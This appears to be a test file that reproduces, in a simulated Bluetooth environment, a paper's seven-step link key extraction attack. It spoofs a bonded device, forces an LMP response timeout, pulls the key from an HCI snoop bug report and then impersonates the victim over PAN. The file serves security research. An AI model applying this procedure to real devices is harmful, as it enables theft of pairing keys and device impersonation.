"""Fig. 5 — the seven-step link key extraction procedure.

Runs the attack step by step and checks the paper's claims at each
stage: the key is logged during step 3-4, the link drops by timeout in
step 5 (no auth failure, key survives), extraction succeeds in step 6
and impersonation validates in step 7.
"""

from __future__ import annotations

from repro.attacks.attacker import Attacker
from repro.attacks.link_key_extraction import LinkKeyExtractionAttack
from repro.attacks.scenario import WorldConfig, bond, build_world, standard_cast
from repro.hci.constants import ErrorCode
from repro.snoop.extractor import extract_link_keys


def run_stepwise(seed: int = 77):
    log = []
    world = build_world(WorldConfig(seed=seed))
    m, c, a = standard_cast(world)
    bond(world, c, m)
    truth = c.bonded_key_for(m.bd_addr)
    log.append(f"pre-state: C and M bonded, key={truth.hex()}")

    # Step 1: record HCI data on C.
    dump = c.enable_hci_snoop()
    log.append("step 1: HCI snoop enabled on C (developer options)")

    # Step 2: spoof M.
    attacker = Attacker(a)
    attacker.patch_drop_link_key_requests()
    attacker.spoof_device(m)
    attacker.go_connectable()
    world.set_in_range(c, m, False)
    world.run_for(0.5)
    log.append(f"step 2: A spoofed BD_ADDR {a.bd_addr} (= M)")

    # Step 3: C connects and initiates LMP authentication with "M".
    operation = c.host.gap.pair(m.bd_addr)
    world.run_for(12.0)
    log.append(
        "step 3-5: C authenticated toward A; outcome status="
        f"{operation.status:#x} (0x22 = LMP response timeout)"
    )
    timeout_not_failure = operation.status == ErrorCode.LMP_RESPONSE_TIMEOUT
    key_survived = c.bonded_key_for(m.bd_addr) == truth
    log.append(f"        key survived on C: {key_survived}")

    # Step 6: extract from the bug report.
    findings = extract_link_keys(c.pull_bugreport())
    extracted = [f.link_key for f in findings if f.peer == m.bd_addr]
    log.append(
        f"step 6: extracted {len(findings)} finding(s); "
        f"key match: {bool(extracted and extracted[-1] == truth)}"
    )

    return {
        "log": log,
        "timeout_not_failure": timeout_not_failure,
        "key_survived": key_survived,
        "extracted_ok": bool(extracted and extracted[-1] == truth),
    }


def test_fig5_stepwise_procedure(save_artifact):
    outcome = run_stepwise()
    save_artifact("fig5_extraction_steps.txt", "\n".join(outcome["log"]))
    assert outcome["timeout_not_failure"]
    assert outcome["key_survived"]
    assert outcome["extracted_ok"]


def test_fig5_step7_impersonation(save_artifact):
    """Step 7 measured end-to-end through the attack driver."""

    def full_attack():
        world = build_world(WorldConfig(seed=78))
        m, c, a = standard_cast(world)
        bond(world, c, m)
        return LinkKeyExtractionAttack(world, a, c, m).run(validate=True)

    report = full_attack()
    save_artifact(
        "fig5_step7_validation.txt",
        "step 7: impersonation of C toward M over PAN\n"
        f"  extracted key : {report.extracted_key}\n"
        f"  ground truth  : {report.ground_truth_key}\n"
        f"  PAN connected without new pairing: {report.validated_against_m}",
    )
    assert report.vulnerable and report.validated_against_m
